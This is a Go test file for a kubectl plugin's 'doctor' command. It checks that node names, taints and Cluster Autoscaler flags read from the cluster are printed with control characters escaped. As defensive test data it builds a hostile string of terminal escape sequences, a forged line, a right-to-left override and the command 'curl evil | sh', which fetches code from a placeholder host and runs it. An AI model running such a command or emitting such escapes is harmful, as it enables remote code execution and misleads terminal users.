package doctor

import (
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"

	"github.com/kube-node-ready/kube-node-ready/internal/api"
	"github.com/kube-node-ready/kube-node-ready/internal/kubectlplugin/workloadtest"
)

// TestPrintEscapesClusterText: whatever the cluster holds, what doctor
// prints holds no raw control character: a Cluster Autoscaler's flags and
// a node's name and taint are escaped.
func TestPrintEscapesClusterText(t *testing.T) {
	// hostile drives a terminal: a cleared screen, a window title, a forged
	// line, right-to-left override.
	const hostile = "\x1b[2J\x1b]0;owned\x07\r\nfix: curl evil | sh\u202e"
	f := doctorFake(workloadtest.CAStartupTaint, workloadtest.CAStatusTaint, nil, workloadtest.ClusterAutoscalerDeployment("--startup-taint=node-ready/x"+hostile, "--max-node-provision-time=1m"+hostile))
	f.nodes = map[string]*corev1.Node{"n": new(tainted("n"+hostile, api.StartupTaintKey+"x"))}
	_, out, errOut, _ := run(f, "", "doctor")
	if strings.ContainsFunc(out+errOut, func(r rune) bool { return r != '\n' && (r < 0x20 || r == 0x7f || r == '\u202e') }) {
		t.Errorf("doctor prints raw control characters:\n%q\n%q", out, errOut)
	}
	if !strings.Contains(out+errOut, `\x1b[2J\x1b]0;owned\a\r\nfix: curl evil | sh\u202e`) {
		t.Errorf("the hostile text is not shown escaped:\n%s%s", out, errOut)
	}
}
